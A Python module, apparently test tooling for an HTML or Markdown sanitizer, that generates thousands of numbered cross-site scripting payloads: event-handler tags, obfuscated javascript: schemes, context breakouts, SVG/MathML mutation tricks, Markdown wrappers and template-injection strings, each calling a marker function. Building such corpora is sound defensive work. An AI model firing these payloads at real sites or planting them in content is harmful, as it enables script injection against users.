"""Texts that want to become script: a grammar of our own, about eight thousand, each with a number of its own.

Every payload calls `xss(NUMBER)`, so that whoever hears the call knows which one got through. They are the kinds that the
public lists hold: tags with events, addresses with scheme tricks, ways out of a context, mutations in SVG and MathML,
Markdown's own doors, encodings, styles, templates.
"""

import itertools
from collections.abc import Iterator
from html import escape

TAGS = (
    "a abbr address area article aside audio b base bdo blink blockquote body br button canvas center code command custom-x data "
    "datalist dd del details dialog div dl dt em embed fieldset figure font footer form frame frameset h1 head header hr html i "
    "iframe image img input ins isindex kbd keygen label legend li link listing map mark marquee menu menuitem meta meter nav "
    "nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rp rt ruby s "
    "samp script search section select slot small source span strong style sub summary sup svg table tbody td template textarea "
    "tfoot th thead time title tr track tt u ul var video wbr xmp xss animate circle foreignobject math mi mtext set use path"
).split()
EVENTS = (
    "onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut "
    "onbeforeinput onbeforematch onbeforepaste onbeforetoggle onbegin onblur oncanplay onchange onclick onclose oncontentvisibilityautostatechange "
    "oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondrop onend onended onerror onfocus onfocusin onformdata "
    "onfullscreenchange onhashchange oninput oninvalid onkeydown onload onloadstart onmessage onmousedown onmouseenter onmouseover "
    "onmousewheel onpageshow onpaste onplay onpointerdown onpointerenter onpointerover onpopstate onprogress onrepeat onresize "
    "onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onselect onselectstart onshow onslotchange onstart onsubmit "
    "ontoggle ontouchstart ontransitionend ontransitionrun onunhandledrejection onunload onwebkitanimationstart onwebkitmouseforceup onwheel"
).split()
WOKEN = ' autofocus tabindex=1 contenteditable open controls src=x style="animation:x 1s;display:block" popover id=x'
CORE = (
    "<img src=x onerror={js}>", "<svg onload={js}>", "<script>{js}</script>", "<details open ontoggle={js}>", "<iframe srcdoc='<script>parent.{js}</script>'>",
    "<a href=javascript:{js}>x</a>", "<input autofocus onfocus={js}>", "<video><source onerror={js}></video>", "<body onload={js}>", "<math href=javascript:{js}>x</math>",
    "<svg><script>{js}</script></svg>", "<svg><animate onbegin={js} attributeName=x dur=1s>", "<marquee onstart={js}>", "<object data=javascript:{js}>",
    "<form><button formaction=javascript:{js}>x", "<x onclick={js} tabindex=1 autofocus onfocus={js}>x", "<style onload={js}></style>", "<link rel=stylesheet href=x onerror={js}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>", "<embed src=javascript:{js}>", "<isindex action=javascript:{js} type=image>", "<audio src=x onerror={js}>",
)  # fmt: skip
SHAPES = (  # ways to write one tag with one event
    "<{tag} {event}={js}>", "<{tag}/{event}={js}>", "<{TAG} {EVENT}={js}>", "<{tag}\t{event}\n=\r{js}>", '<{tag} {event}="{js}"', "<{tag} {event}='{js}'//",
    "<{tag} {event}=`{js}`>", "<{tag}\x0c{event}={js}>", "<<{tag} {event}={js}>>", "<{tag} x='>' {event}={js}>", '<{tag} x=">"{event}={js}>', "<{tag} {event}\x00={js}>",
    "<\x00{tag} {event}={js}>", "<{tag} {event}=&#x20;{js}>", "<{tag} {event}={entities}>", "<{tag} {event}={hex}>", "<{tag} {event}=eval(atob('{b64}'))>", "<{tag} {event}=\\u0078ss({n})>",
    "<{tag} {event}=window['x'+'ss']({n})>", "<{tag} {event}=x\u200bss({n})>", "<{tag} {event}=top.{js}>", "<{tag} {event}=javascript:{js}>", "<{tag} {event}=setTimeout`{js}`>",
    "<{tag} {event} = {js} a=", "<{tag} {event}={js}<", "<{tag} data-x='`\"' {event}={js}>", "< {tag} {event}={js}>", "<{tag}\u3000{event}={js}>", "<{tag} a=1 {event}={js} {event}=1>", "<{tag} a='&quot;' {event}={js}>",
    "<{tag}{event}={js}>", "&lt;{tag} {event}={js}&gt;", "&amp;lt;{tag} {event}={js}&amp;gt;", "%3C{tag} {event}={js}%3E", "\\x3c{tag} {event}={js}\\x3e", "\\u003c{tag} {event}={js}\\u003e",
    "\uff1c{tag} {event}={js}\uff1e", "\u2039{tag} {event}={js}\u203a", "+ADw-{tag} {event}={js}+AD4-", "\xc0\xbc{tag} {event}={js}>", "\ufeff<{tag} {event}={js}>", "<!--><{tag} {event}={js}>-->",
    "<!-- --!><{tag} {event}={js}>", "<![CDATA[><{tag} {event}={js}>]]>", "<?x ><{tag} {event}={js}>?>", "<!x><{tag} {event}={js}>", "</x><{tag} {event}={js}>", "<{tag} {event}={js}><{tag} {event}={js}></{tag}>",
)  # fmt: skip
SCHEMES = (  # `javascript:` as browsers read it, and its kin
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", "java\rscript:{js}", "\x01javascript:{js}", " javascript:{js}", "\tjavascript:{js}", "\x0cjavascript:{js}",
    "javascript\t:{js}", "javascript&colon;{js}", "javascript&#58;{js}", "javascript&#x3A;{js}", "&#106;avascript:{js}", "&#x6A;avascript:{js}", "&#0000106avascript:{js}", "java&Tab;script:{js}",
    "java&NewLine;script:{js}", "java&#10;script:{js}", "java&#x09;script:{js}", "javascript:/*x*/{js}", "javascript://x%0a{js}", "javascript://%0d{js}", "javascript:%78ss({n})", "javascript:\\u0078ss({n})",
    "javascript:void({js})", "javascript:'<script>parent.{js}</script>'", "java\x00script:{js}", "javascript\u003a{js}", "javascript\uff1a{js}", "java\u200bscript:{js}", "java\xadscript:{js}", "\u2028javascript:{js}",
    "\xa0javascript:{js}", "\u3000javascript:{js}", "\ufeffjavascript:{js}", "%6aavascript:{js}", "javascript%3a{js}", "vbscript:{js}", "livescript:{js}", "mocha:{js}", "feed:javascript:{js}", "view-source:javascript:{js}",
    "jar:javascript:{js}", "data:text/html,<script>{js}</script>", "data:text/html;base64,{b64html}", "DATA:text/html,<svg onload={js}>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>", "data:,{js}", "data:text/javascript,{js}", "//x\" onerror={js} \"", "x' onerror={js} '", "x` onerror={js} `", "blob:{js}", "about:{js}",
    "https://x/\"><img src=x onerror={js}>", "https://x/\n\"onmouseover={js}", "mailto:\"><svg onload={js}>@x", "tel:\"onclick={js}\"", "#\"><img src=x onerror={js}>", "?\"><img src=x onerror={js}>", "/\\\"><img src=x onerror={js}>",
)  # fmt: skip
CARRIERS = (  # where an address stands
    "<a href=\"{url}\">x</a>", "<a href={url}>x", "<a href='{url}' target=_blank>x</a>", "<img src=\"{url}\">", "<img srcset=\"{url} 1x\">", "<iframe src=\"{url}\"></iframe>", "<object data=\"{url}\"></object>",
    "<embed src=\"{url}\">", "<form action=\"{url}\"><input type=submit></form>", "<button formaction=\"{url}\" form=x>x</button>", "<svg><a xlink:href=\"{url}\"><text y=20>x</text></a></svg>", "<svg><a href=\"{url}\"><text y=20>x</text></a></svg>",
    "<math><mi href=\"{url}\">x</mi></math>", "<math><maction actiontype=statusline xlink:href=\"{url}\">x</maction></math>", "<map name=m><area href=\"{url}\" shape=default></map><img usemap=#m src=/x.png>", "<base href=\"{url}//\"><a href=#>x</a>",
    "<link rel=stylesheet href=\"{url}\">", "<meta http-equiv=refresh content=\"0;url={url}\">", "<video poster=\"{url}\"></video>", "<svg><use href=\"{url}#x\"/></svg>", "<svg><animate attributeName=href values=\"{url}\"/></svg>",
    "<svg><a><set attributeName=href to=\"{url}\"/><text y=20>x</text></a></svg>", "<blockquote cite=\"{url}\">x</blockquote>", "<script src=\"{url}\"></script>", "<table background=\"{url}\"><tr><td>x</table>", "<div style=\"background:url({url})\">x</div>",
    "[x]({url})", "[x](<{url}>)", "![x]({url})", "[x]({url} \"t\")", "[x][r]\n\n[r]: {url}", "[x][r]\n\n[r]: <{url}> 't'", "<{url}>", "{url}", "| a |\n|---|\n| [x]({url}) |", "# [x]({url})", "- [ ] [x]({url})", "> [x]({url})",
    "[![x]({url})]({url})", "[^1]\n\n[^1]: [x]({url})", "$\\href{{{url}}}{{x}}$", "$$\n\\url{{{url}}}\n$$", "![x](/a.png \"{url}\")", "<https://x/{url}>", "www.x.com/{url}",
)  # fmt: skip
OUT = (
    "\">", "'>", "`>", "\"'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "--!>", "]]>", "</noscript>", "</template>", "</xmp>", "</select>", "</svg>", "</math>", "</option></select>", "*/", "';", "\";", "${",
    "{{", "{%", "</a>", "</td></table>", "\\\">", "\x00\">", "</p>", "/>", "%22%3E", "&quot;&gt;", "</code></pre>", "```\n", "~~~\n", "</summary></details>", "</iframe>", "</noembed>", "\" onx=\"",
)  # fmt: skip
BOXES = (  # Markdown around markup
    "{x}", "> {x}", "- {x}", "1. {x}", "# {x}", "| a |\n|---|\n| {x} |", "| {x} |\n|---|\n| a |", "`{x}`", "```{x}\na\n```", "```html\n{x}\n```", "    {x}", "*{x}*", "[{x}](/y)", "![{x}](/y.png)", "[a](/y \"{x}\")", "[a](/y '{x}')",
    "[a]: /y '{x}'\n\n[a]", "[{x}]: /y\n\n[{x}]", "a[^n]\n\n[^n]: {x}", "[^{x}]\n\n[^{x}]: a", "<div>\n\n{x}\n\n</div>", "<details>\n<summary>{x}</summary>\n\n{x}\n\n</details>", "> [!NOTE] {x}\n> {x}", "- [x] {x}", "$\\text{{{x}}}$", "$$\n{x}\n$$",
    "@{x}", ":{x}:", "~~{x}~~", "---\ntitle: {x}\n---\n\na", "# FAQ\n\n## Q. {x}", "## 학습 내용\n\n### {x}\n\n- 4-1 {x}", "<p align=\"{x}\">a</p>", "<!-- {x} -->", "<b title=\"{x}\">a</b>", "<b title='{x}'>a</b>", "a\\{x}", "https://x.com/{x}", "=={x}==", "{x}\n===",
    "```mermaid\n{x}\n```", "```math\n{x}\n```", "<details><summary>a</summary>{x}", "<kbd>{x}</kbd>", "<ruby>a<rt>{x}</ruby>", "<table><tr><td>{x}</td></tr></table>",
)  # fmt: skip
ROOTS = ("svg", "math")
POINTS = (
    "mtext",
    "mi",
    "mglyph",
    "malignmark",
    "annotation-xml encoding=text/html",
    "foreignObject",
    "desc",
    "title",
    "mtext><mglyph",
    "mtext><table><mglyph",
)
RAW = ("style", "title", "noscript", "textarea", "xmp", "noembed", "noframes", "iframe", "template", "table", "select", "script", "plaintext", "p", "form", "a", "option", "![CDATA[")  # fmt: skip
MUTATED = ("<!--</{raw}>{x}-->", '<img title="</{raw}>{x}">', "</{raw}>{x}", '<a id="</{raw}>{x}">')
STYLES = (
    "<style>@import'javascript:{js}';</style>", "<div style=\"x:expression({js})\">", "<div style=\"background:url(javascript:{js})\">", "<div style=\"-moz-binding:url(x#{js})\">", "<style>*{{x:expression({js})}}</style>",
    "<div style=\"behavior:url(x);{js}\">", "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={js}>", "<div style='width:\\65xpression({js})'>", "<link rel=import href=\"data:text/html,<script>{js}</script>\">",
    "<style></style\n><img src=x onerror={js}>", "<style><style/><img src=x onerror={js}>", "{{{{constructor.constructor('{js}')()}}}}", "${{{js}}}", "#{{{js}}}", "<%= {js} %>", "{{% debug %}}{{{{ {js} }}}}", "[[${{{js}}}]]", "{{{{7*7}}}}<img src=x onerror={js}>",
    "<div hx-get=x hx-on::load={js}>", "<div hx-on:click={js} hx-trigger=load>", "<div data-hx-on:htmx:load={js}>", "<div hx-get=/ hx-vals='js:{{x:{js}}}' hx-trigger=load>", "<div _=\"on load {js}\">", "<b x-init={js}>", "<b ng-init={js}>", "<b v-html={js}>", "<haru-x onload={js}>",
)  # fmt: skip


def payloads() -> list[str]:
    """Return all of them, none twice; the one at place N calls `xss(N)`."""
    found: dict[str, None] = dict.fromkeys(_patterns())
    return [_numbered(pattern, number) for number, pattern in enumerate(found)]


def _patterns() -> Iterator[str]:
    """Yield texts in which `xss(@N@)` stands, or a disguise of it."""
    js = "xss(@N@)"
    for at, tag in enumerate(TAGS):
        for event in itertools.islice(itertools.cycle(EVENTS), at * 7, at * 7 + 22):
            yield f"<{tag} {event}={js}{WOKEN if at % 2 else ''}>x</{tag}>"
    for shape, (tag, event) in itertools.product(
        SHAPES,
        (
            ("img src=x", "onerror"),
            ("svg", "onload"),
            ("details open", "ontoggle"),
            ("input autofocus", "onfocus"),
            ("a", "onclick"),
        ),
    ):
        yield shape.format(
            tag=tag,
            TAG=tag.upper(),
            event=event,
            EVENT=event.upper(),
            js=js,
            n="@N@",
            entities="@E@",
            hex="@H@",
            b64="@B@",
        )
    for scheme, carrier in itertools.product(SCHEMES, CARRIERS):
        yield carrier.format(url=scheme.format(js=js, n="@N@", b64html="@P@"))
    cores = [core.format(js=js) for core in CORE]
    yield from (out + core for out, core in itertools.product(OUT, cores))
    yield from (box.format(x=core) for box, core in itertools.product(BOXES, cores))
    for root, point, raw, mutated in itertools.product(ROOTS, POINTS, RAW, MUTATED):
        yield f"<{root}><{point}><{raw}>" + mutated.format(raw=raw, x=f"<img src=x onerror={js}>")
    yield from (
        f"<form><{root}><mtext></form><form><mglyph><{raw}></{root}><img src=x onerror={js}>"
        for root, raw in itertools.product(ROOTS, RAW)
    )
    yield from (style.format(js=js) for style in STYLES)
    yield from (
        f"{box}{core}"
        for box, core in itertools.product(
            ("<b>" * 600, "> " * 40, "- " * 40, "[" * 300, "<table><tr><td>" * 60), cores
        )
    )


def _numbered(pattern: str, number: int) -> str:
    import base64

    call = f"xss({number})"
    page = base64.b64encode(f"<script>parent.{call}</script>".encode()).decode()
    for mark, word in {
        "@N@": str(number), "@E@": "".join(f"&#{ord(letter)};" for letter in call), "@H@": "".join(f"&#x{ord(letter):x}" for letter in call),
        "@B@": base64.b64encode(call.encode()).decode(), "@P@": page,
    }.items():  # fmt: skip
        pattern = pattern.replace(mark, word)
    return pattern


def shown(payload: str) -> str:
    """Return a payload as a line to read."""
    return escape(repr(payload), quote=False)[:300]
